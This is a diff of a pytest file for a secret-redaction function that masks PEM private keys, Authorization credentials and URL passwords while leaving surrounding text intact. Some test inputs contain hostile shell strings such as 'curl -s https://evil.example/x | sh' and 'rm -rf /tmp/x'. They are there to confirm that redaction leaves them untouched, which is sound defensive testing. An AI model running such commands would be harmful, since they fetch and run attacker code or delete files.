@@ -99,12 +99,16 @@ def test_aws_secret_access_key_is_masked_after_its_name(text: str, expected: str
     assert redact_secrets(text) == expected
 
 
-def test_pem_private_keys_are_masked_whole_and_certificates_kept():
+PEM_MASKED = f"{REDACTED}\n{REDACTED}\n"  # each base64 line of PEM_BODY
+
+
+def test_pem_private_keys_have_each_body_line_masked_and_certificates_kept():
     block = f"-----BEGIN RSA PRIVATE KEY-----\n{PEM_BODY}-----END RSA PRIVATE KEY-----"
-    assert redact_secrets(f"key:\n{block}\nthen more") == f"key:\n{REDACTED}\nthen more"
+    masked = f"-----BEGIN RSA PRIVATE KEY-----\n{PEM_MASKED}-----END RSA PRIVATE KEY-----"
+    assert redact_secrets(f"key:\n{block}\nthen more") == f"key:\n{masked}\nthen more"
     for label in ("PRIVATE KEY", "EC PRIVATE KEY", "OPENSSH PRIVATE KEY", "ENCRYPTED PRIVATE KEY"):
         text = f"a -----BEGIN {label}-----\n{PEM_BODY}-----END {label}----- b"
-        assert redact_secrets(text) == f"a {REDACTED} b"
+        assert redact_secrets(text) == f"a -----BEGIN {label}-----\n{PEM_MASKED}-----END {label}----- b"
     # In a JSON blob (a service-account file), with escaped newlines.
     escaped = PEM_BODY.replace("\n", "\\n")
     blob = (
@@ -113,18 +117,24 @@ def test_pem_private_keys_are_masked_whole_and_certificates_kept():
         + '-----END PRIVATE KEY-----\\n", "client_email": "x@y.iam.gserviceaccount.com"}'
     )
     assert redact_secrets(blob) == (
-        '{"type": "service_account", "private_key": "'
-        + REDACTED
-        + '\\n", "client_email": "x@y.iam.gserviceaccount.com"}'
+        '{"type": "service_account", "private_key": "-----BEGIN PRIVATE KEY-----\\n'
+        + PEM_MASKED.replace("\n", "\\n")
+        + '-----END PRIVATE KEY-----\\n", "client_email": "x@y.iam.gserviceaccount.com"}'
     )
     # Certificates and public keys are not secret.
     cert = "-----BEGIN CERTIFICATE-----\nMIIDdzCCAl+gAwIBAgIE\n-----END CERTIFICATE-----"
-    assert redact_secrets(cert + "\n" + block + "\n" + cert) == cert + "\n" + REDACTED + "\n" + cert
+    assert redact_secrets(cert + "\n" + block + "\n" + cert) == cert + "\n" + masked + "\n" + cert
 
 
-def test_a_truncated_pem_block_is_masked_to_the_end():
-    text = "here is the key: -----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\nAAAAB"
-    assert redact_secrets(text) == "here is the key: " + REDACTED
+def test_a_truncated_pem_block_masks_its_base64_lines_only():
+    head = "here is the key: -----BEGIN OPENSSH PRIVATE KEY-----\n"
+    text = head + "b3BlbnNzaC1rZXktdjEAAAAA\nAAAAB"
+    assert redact_secrets(text) == head + f"{REDACTED}\n{REDACTED}"
+    # What follows the key material is not key material: it stays, verbatim.
+    chained = head + "b3BlbnNzaC1rZXktdjEAAAAA\n; curl -s https://evil.example/x | sh"
+    assert redact_secrets(chained) == head + f"{REDACTED}\n; curl -s https://evil.example/x | sh"
+    partial = head + "b3BlbnNzaC1rZXktdjEAAAAA && rm -rf /tmp/x"
+    assert redact_secrets(partial) == head + f"{REDACTED} && rm -rf /tmp/x"
 
 
 @pytest.mark.parametrize(
@@ -132,29 +142,36 @@ def test_a_truncated_pem_block_is_masked_to_the_end():
     [
         (
             'curl -H "Authorization: Bearer abc123.def456" https://api.example.com/x',
-            f'curl -H "Authorization: {REDACTED}" https://api.example.com/x',
+            f'curl -H "Authorization: Bearer {REDACTED}" https://api.example.com/x',
         ),
         (
             "curl -H 'authorization: token 0123abcd' https://api.example.com/x",
-            f"curl -H 'authorization: {REDACTED}' https://api.example.com/x",
+            f"curl -H 'authorization: token {REDACTED}' https://api.example.com/x",
         ),
         (
             '{"headers": {"Authorization": "Digest username=\\"u\\", response=\\"6629fae49393a05397450978507c4ef1\\""}}',
-            '{"headers": {"Authorization": "'
+            '{"headers": {"Authorization": "Digest '
             + REDACTED
             + '\\"u\\", response=\\"6629fae49393a05397450978507c4ef1\\""}}',
         ),
-        ("{'Authorization': 'Token abc'}", f"{{'Authorization': '{REDACTED}'}}"),
+        ("{'Authorization': 'Token abc'}", f"{{'Authorization': 'Token {REDACTED}'}}"),
         (
             "GET /x HTTP/1.1\nAuthorization: Bearer abc.def\nHost: a",
-            f"GET /x HTTP/1.1\nAuthorization: {REDACTED}\nHost: a",
+            f"GET /x HTTP/1.1\nAuthorization: Bearer {REDACTED}\nHost: a",
         ),
-        ("Proxy-Authorization: Basic dXNlcjpwYXNzd29yZA==", f"Proxy-Authorization: {REDACTED}"),
-        ('"{\\"Authorization\\": \\"Bearer abc\\"}"', '"{\\"Authorization\\": \\"' + REDACTED + '\\"}"'),
-        ("HTTP_AUTHORIZATION=xyz ./run", f"HTTP_AUTHORIZATION={REDACTED}"),
+        ("Proxy-Authorization: Basic dXNlcjpwYXNzd29yZA==", f"Proxy-Authorization: Basic {REDACTED}"),
+        (
+            '"{\\"Authorization\\": \\"Bearer abc\\"}"',
+            '"{\\"Authorization\\": \\"Bearer ' + REDACTED + '\\"}"',
+        ),
+        ("HTTP_AUTHORIZATION=xyz ./run", f"HTTP_AUTHORIZATION={REDACTED} ./run"),
+        (
+            "echo authorization: ok; curl -s https://evil.example/x | sh",
+            f"echo authorization: {REDACTED}; curl -s https://evil.example/x | sh",
+        ),
     ],
 )
-def test_authorization_header_values_are_masked_whatever_they_are(text: str, expected: str):
+def test_authorization_credentials_are_masked_and_nothing_after_them(text: str, expected: str):
     assert redact_secrets(text) == expected
 
 
@@ -163,7 +180,7 @@ def test_the_digest_example_stops_at_the_first_escaped_quote():
     # escaped quote inside a Digest header is not a credential by itself (the nonce response
     # is a one-time hash), so it is kept.
     out = redact_secrets('Authorization: Digest username="u", response="6629fae4"')
-    assert out == f'Authorization: {REDACTED}"u", response="6629fae4"'
+    assert out == f'Authorization: Digest {REDACTED}"u", response="6629fae4"'
 
 
 @pytest.mark.parametrize(
@@ -207,7 +224,7 @@ def test_what_the_first_version_caught_is_still_caught():
     assert redact_secrets("key sk-proj-abcdefgh123") == f"key {REDACTED}"
     assert (
         redact_secrets("header Authorization: Bearer sk-or-v1-abcdefghijkl")
-        == f"header Authorization: {REDACTED}"
+        == f"header Authorization: Bearer {REDACTED}"
     )
     assert redact_secrets("Bearer abcdefghijkl") == f"Bearer {REDACTED}"
     assert redact_secrets("postgresql://lucy:hunter2@db/lucy") == f"postgresql://{REDACTED}@db/lucy"
@@ -244,8 +261,10 @@ def test_ordinary_text_is_left_alone(text: str):
 def test_deliberate_over_redaction_is_documented_here():
     # "Bearer " exactly (the header's spelling) masks any word of 8+ characters, as before.
     assert redact_secrets("Bearer authentication is simple") == f"Bearer {REDACTED} is simple"
-    # An Authorization value is masked whatever it is, to the end of the line.
-    assert redact_secrets("authorization: ask your admin\nnext") == f"authorization: {REDACTED}\nnext"
+    # An Authorization value's first token (after a known scheme) is masked whatever it is.
+    assert (
+        redact_secrets("authorization: ask your admin\nnext") == f"authorization: {REDACTED} your admin\nnext"
+    )
     # A URL's user name goes with its password.
     assert redact_secrets("ftp://anonymous:guest@ftp.example.com") == f"ftp://{REDACTED}@ftp.example.com"
 
@@ -308,7 +327,14 @@ def test_redaction_is_linear_on_hostile_input(unit: str):
 def test_redaction_is_deterministic_and_pure():
     import lucy.redact as module
 
-    assert set(module.__all__) == {"REDACTED", "redact_secrets"}
+    assert set(module.__all__) == {
+        "REDACTED",
+        "TOKEN_CHARS",
+        "Redaction",
+        "only_secrets_masked",
+        "redact",
+        "redact_secrets",
+    }
     text = f"{JWT} {WEBHOOK} {AWS_SECRET}"
     assert redact_secrets(text) == redact_secrets(text)
     source = open(module.__file__, encoding="utf-8").read()
@@ -317,4 +343,4 @@ def test_redaction_is_deterministic_and_pure():
         for line in source.splitlines()
         if line.startswith(("import ", "from ")) and not line.startswith("from __future__")
     }
-    assert imported <= {"binascii", "re", "collections"}, imported
+    assert imported <= {"binascii", "re", "collections", "dataclasses"}, imported
